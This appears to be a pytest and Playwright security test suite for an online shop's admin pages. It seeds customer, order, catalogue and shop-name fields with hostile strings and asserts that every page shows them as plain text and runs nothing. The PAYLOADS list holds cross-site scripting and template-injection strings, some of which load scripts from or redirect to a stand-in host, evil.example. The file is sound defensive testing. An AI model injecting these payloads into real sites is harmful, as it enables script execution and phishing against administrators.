"""What strangers may name themselves is shown as text on every page that shows it, and never does anything."""

import asyncio
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest
from playwright.async_api import Page, expect

from shop.admin.operations.overview import MOST_MAILS
from shop.base.ids import new_id
from tests.admin.browser_session import API, ask_for_application, window
from tests.admin.catalog_forms import done, new_product, picture, upload
from tests.admin.dashboard import Desk, new_desk
from tests.admin.promotion_forms import a_tenth
from tests.browser import Browser, scrolls_sideways
from tests.platform.bulk import bring, counts
from tests.platform.client import new_machine

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><!--</style><img title=--><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "<form action=//evil.example><input type=submit value=Sign-in>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "{{7*7}}{% for x in (1,2) %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "<!--<script>-->]]><![CDATA[<b>",
    "'-alert(1)-'\\\";alert(1)//`${alert(1)}`",
    "\u202etxt.exe\u202c\u200b\u2066gnp\ufeff",
    "<b>bold</b>" * 8 + "x" * 12,
)
NAMES = tuple(payload for payload in PAYLOADS if payload.isprintable())
SHOP_NAME = "</title><svg/onload=alert(1)>\"'><script>alert(1)</script>{{7*7}}&lt;b&gt;"
FOREIGN = """() => [...document.querySelectorAll("script, style, link, iframe, base, img, form, math, animate, b > b")]
    .filter(element => !element.nonce && element.rel !== "icon" && !element.matches(".brand img"))
    .filter(element => !element.getAttribute("action")?.startsWith("/admin"))
    .filter(element => !element.matches("img[src^='/media/']"))
    .map(element => element.outerHTML)"""


# An id and a text each; and to whom belongs what one page shows all of.
GIVEN = """with given as (
    select $1::uuid as key, $2::text as said, $3::uuid as operator_id, $4::uuid as customer_id, $5::uuid as order_id)
"""
KEPT = (
    """insert into users (id, email, email_key, first_name, last_name, created_at, updated_at)
    select key, said, key::text, said, said, now(), now() from given""",
    """insert into sessions
    (id, user_id, source, user_agent, created_at, refreshed_at, idle_expires_at, absolute_expires_at)
    select key, customer_id, '192.0.2.1', said, now(), now(), now() + interval '1 day', now() + interval '1 day'
    from given""",
    """insert into addresses
    (id, user_id, firstname, lastname, company, address1, address2, city, zipcode, state_name, country_id,
    created_at, updated_at)
    select key, customer_id, said, said, said, said, said, said, said, said, id, now(), now()
    from given, countries where iso = 'GB'""",
    """insert into orders (id, number, currency, email, state, special_instructions, internal_note, ship_address_id,
    created_at, updated_at)
    select key, 'R' || key, 'USD', said, 'cart', said, said,
    (select id from addresses where user_id = customer_id and firstname = said), now(), now() from given""",
    """insert into audit_events (id, at, actor_kind, action, outcome, subject_id, detail)
    select key, now(), 'system', 'order_approved', 'done', order_id,
    json_build_object(said, array[said], 'note', said) from given""",
    """insert into operators (id, email, email_key, created_at, updated_at)
    select key, said, key::text, now(), now() from given""",
    """insert into operator_sessions (id, hash, operator_id, source, user_agent, created_at, seen_at, authenticated_at)
    select key, uuid_send(key) || uuid_send(key), operator_id, '192.0.2.1', said, now(), now(), now() from given""",
    """insert into outbox_mails
    (id, kind, recipient, ref_id, not_after, next_at, created_at, dead_at, last_error)
    select key, 'login_code', said, key, now(), now(), now(), now(), said from given""",
    """insert into customer_groups (id, name, description, created_at, updated_at)
    select key, said, said, now(), now() from given""",
    """insert into customer_group_members (id, customer_group_id, user_id, created_at, updated_at)
    select key, g.id, customer_id, now(), now() from given join customer_groups g on g.name = said""",
    """insert into price_lists (id, name, currency, percent_off, created_at, updated_at)
    select key, said, 'USD', 5, now(), now() from given""",
    """insert into price_list_users (id, price_list_id, user_id, created_at, updated_at)
    select key, l.id, customer_id, now(), now() from given join price_lists l on l.name = said""",
    """insert into stock_locations (id, name, created_at, updated_at) select key, said, now(), now() from given""",
    """insert into option_types (id, name, presentation, created_at, updated_at)
    select key, key::text, said, now(), now() from given""",
    """, tree as (insert into taxonomies (id, name, created_at, updated_at)
        select key, said, now(), now() from given returning id, name)
    insert into taxons (id, taxonomy_id, name, slug, created_at, updated_at)
    select gen_random_uuid(), id, name, id::text, now(), now() from tree""",
    """insert into promotions (id, name, description, code, created_at, updated_at)
    select key, said, said, said, now(), now() from given""",
    """insert into promotion_actions (id, promotion_id, type, created_at, updated_at)
    select key, p.id, said, now(), now() from given, (select min(id::text)::uuid as id from promotions) p""",
    """insert into coupon_batches (id, promotion_id, name, prefix, codes_count, created_at, updated_at)
    select key, p.id, said, said, 1, now(), now() from given, (select min(id::text)::uuid as id from promotions) p""",
    """, granted as (insert into store_credits
        (id, user_id, currency, amount, memo, actor_kind, created_at, updated_at)
        select key, customer_id, 'USD', 100, said, 'operator', now(), now() from given returning id, user_id, memo)
    insert into store_credit_events
    (id, store_credit_id, user_id, currency, action, amount, user_total_amount, reason, actor_kind, created_at)
    select gen_random_uuid(), id, user_id, 'USD', 'granted', 100, 100, memo, 'operator', now() from granted""",
)


async def fill(desk: Desk, db: Any) -> tuple[list[Any], list[Any]]:
    """Every payload wherever someone else's words are kept: the ids of customers, the first with all, and of orders."""
    users, orders = [uuid4() for _ in PAYLOADS], [uuid4() for _ in PAYLOADS]
    for statement in KEPT:
        ids = users if statement is KEPT[0] else orders if statement is KEPT[3] else [uuid4() for _ in PAYLOADS]
        rows = [(key, text, desk.id, users[0], orders[0]) for key, text in zip(ids, PAYLOADS, strict=True)]
        await db.executemany(GIVEN + statement, rows)
    return users, orders


async def see(page: Page, path: str, *texts: str) -> str:
    """The page says these, as they are, and holds nothing that it was not made of."""
    await page.goto(path)
    page_text = await page.evaluate("document.title + document.body.textContent")
    assert [text for text in texts if text not in page_text] == [], path
    assert await page.evaluate(FOREIGN) == [], path
    assert not await scrolls_sideways(page), path
    return str(page_text)


@pytest.mark.security("D-05")
@pytest.mark.torture
@pytest.mark.parametrize("every", [1], ids=["many"])
async def test_names_of_strangers_are_text_on_every_page(
    browser: Browser, empty: httpx.AsyncClient, empty_db: Any, every: int
) -> None:
    desk = await new_desk(empty, empty_db)
    users, orders = await fill(desk, empty_db)
    applications = {name: new_id() for name in NAMES}
    for name, key in applications.items():
        response = await desk.post(f"{API}/new", id=str(key), name=name, access_level="read", step="create")
        assert response.status_code == 200, name
    product = await new_product(desk)
    promotion = f"/admin/promotions/{await empty_db.fetchval('select min(id::text) from promotions')}"
    all_of_them = {
        "/admin/promotions": PAYLOADS,
        f"{promotion}/parts": PAYLOADS,
        f"{promotion}/batches": PAYLOADS,
        f"/admin/customers/{users[0]}/credit": PAYLOADS,
        "/admin/customer-groups": PAYLOADS,
        "/admin/price-lists": PAYLOADS,
        "/admin/stock": PAYLOADS,
        "/admin/stock/locations": PAYLOADS,
        "/admin/taxons": PAYLOADS,
        f"{product}/variants": PAYLOADS,
        f"{product}/places": PAYLOADS,
        "/admin/customers": PAYLOADS,
        f"/admin/customers/{users[0]}": PAYLOADS,
        "/admin/orders": PAYLOADS,
        f"/admin/orders/R{orders[0]}": PAYLOADS,
        API: NAMES,
        "/admin/settings/operators": PAYLOADS,
        "/admin/account": PAYLOADS,
    }

    async with window(browser, desk) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        for path, texts in all_of_them.items():
            await see(page, path, *texts)
        overview = await see(page, "/admin")
        assert len([text for text in PAYLOADS if text in overview]) >= MOST_MAILS
        for name in NAMES[:: 2 * every]:
            await see(page, f"{API}/{applications[name]}", name)
        for text, key, order in list(zip(PAYLOADS, users, orders, strict=True))[1 :: 3 * every]:
            await see(page, f"/admin/customers/{key}", text)
            await see(page, f"/admin/orders/R{order}", text)
            await see(page, f"/admin/customers?q={quote(text)}")
            await expect(page.get_by_label("E-mail address or name")).to_have_value(text.strip())
        for name in NAMES[:: 4 * every]:
            await see(page, f"{API}/{applications[name]}/revoke", name)
        await ask_for_application(page, NAMES[5], "Read")
        await expect(page.locator(".facts")).to_contain_text(NAMES[5])
        assert await page.evaluate(FOREIGN) == []

    assert dialogs == []


async def stock_up(desk: Desk, db: Any, order_id: Any) -> tuple[str, dict[str, str]]:
    """Every payload wherever the catalogue keeps words: the address of one product that has all of them, in an order
    too, and those of others by their names.
    """
    machine, mark = await new_machine(desk.http, db), uuid4().hex
    every = [{"sku": text, "barcode": text, "options": {f"Kind {mark}": text}, "stock": {mark: 1}} for text in NAMES]
    whole = {
        "slug": mark,
        "name": NAMES[0],
        "properties": {f"Fact {number} {mark}": text for number, text in enumerate(NAMES)},
        "variants": [{**variant, "prices": {"USD": "5"}} for variant in every],
    }
    field_names = ("name", "description", "meta_title", "meta_description", "meta_keywords")
    others = [
        {"slug": f"{mark}-{number}", "tags": [text], **dict.fromkeys(field_names, text)}
        for number, text in enumerate(NAMES)
    ]
    assert (await machine.post("/stock_locations", {"stock_location": {"name": mark}})).status == 201
    report = await bring(machine, "products", whole, *others)
    assert counts(report) == {"lines": len(NAMES) + 1, "created": len(NAMES) + 1}, report
    paths = dict(await db.fetch("select slug, '/admin/products/' || id from products where slug like $1 || '%'", mark))
    for text in NAMES:
        done(await upload(desk, f"{paths[mark]}/images", picture(size=(8, 8)), new_alt=text))
    await db.execute(
        "insert into line_items (id, order_id, variant_id, quantity, price, quoted_at, name, sku, slug, options_text,"
        " created_at, updated_at) select gen_random_uuid(), $1, v.id, 1, 500, now(), sku, sku, slug, sku, now(), now()"
        " from variants v join products p on p.id = product_id where slug = $2 and not is_master",
        order_id,
        mark,
    )
    return paths[mark], {text: paths[f"{mark}-{number}"] for number, text in enumerate(NAMES)}


@pytest.mark.security("D-05")
@pytest.mark.torture
async def test_words_of_the_catalogue_are_text_on_every_page(
    browser: Browser, empty: httpx.AsyncClient, empty_db: Any
) -> None:
    desk, order_id = await new_desk(empty, empty_db), uuid4()
    await empty_db.execute(
        "insert into orders (id, number, currency, item_count, created_at, updated_at)"
        " values ($1, $2, 'USD', $3, now(), now())",
        order_id,
        f"R{order_id}",
        len(NAMES),
    )
    whole, others = await stock_up(desk, empty_db, order_id)
    promotion = await a_tenth(desk)
    items = "select id from stock_items where variant_id = (select id from variants where sku = $1)"

    async with window(browser, desk) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        number, pages = f"R{order_id}".upper(), ("/admin/products", f"{whole}/variants", f"{whole}/prices")
        await empty_db.execute("update orders set number = $2 where id = $1", order_id, number)
        for path in (*pages, f"/admin/orders/{number}", f"{promotion}/try?order={number}"):
            await see(page, path, *NAMES)
        await see(page, f"{whole}/places")
        assert set(NAMES) <= set(await page.eval_on_selector_all("input", "all => all.map(one => one.value)"))
        await see(page, f"{whole}/images")
        assert await page.eval_on_selector_all(".pictures img", "all => all.map(one => one.alt)") == list(NAMES)
        for text in NAMES[::3]:
            for part in ("", "/variants", "/images", "/places", "/delete"):
                await see(page, others[text] + part, text)
            await see(page, f"/admin/products?q={quote(text)}")
            await see(page, f"/admin/stock?q={quote(text)}")
            await see(page, f"/admin/stock/{await empty_db.fetchval(items, text)}", text)

    assert dialogs == []


@pytest.mark.torture
async def test_the_shops_own_name_is_text_too(browser: Browser, empty: httpx.AsyncClient, empty_db: Any) -> None:
    desk = await new_desk(empty, empty_db)
    name = await empty_db.fetchval("select name from shops")
    async with window(browser, desk, "/admin/settings/shop") as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        try:
            await page.get_by_label("Name").fill(SHOP_NAME)
            await page.get_by_role("button", name="Save").click()
            await expect(page.get_by_label("Name")).to_have_value(SHOP_NAME)
            await seen_by_every_process(empty, True)

            for path in ("/admin", "/admin/account/authenticator", "/admin/sign-in", "/admin/join/x"):
                await see(page, path, *([] if "join" in path else [SHOP_NAME]))
        finally:
            await empty_db.execute("update shops set name = $1, version = version + 1", name)
            await seen_by_every_process(empty, False)

    assert dialogs == []


async def seen_by_every_process(http: httpx.AsyncClient, is_new: bool) -> None:
    """Until either process shows the name, or no longer; each call is a connection of its own, which any may take."""
    async with asyncio.timeout(10):
        in_a_row = 0
        while in_a_row < 12:
            page = await http.get("/admin/sign-in", headers={"Connection": "close"})
            in_a_row = in_a_row + 1 if ("svg/onload" in page.text) is is_new else 0
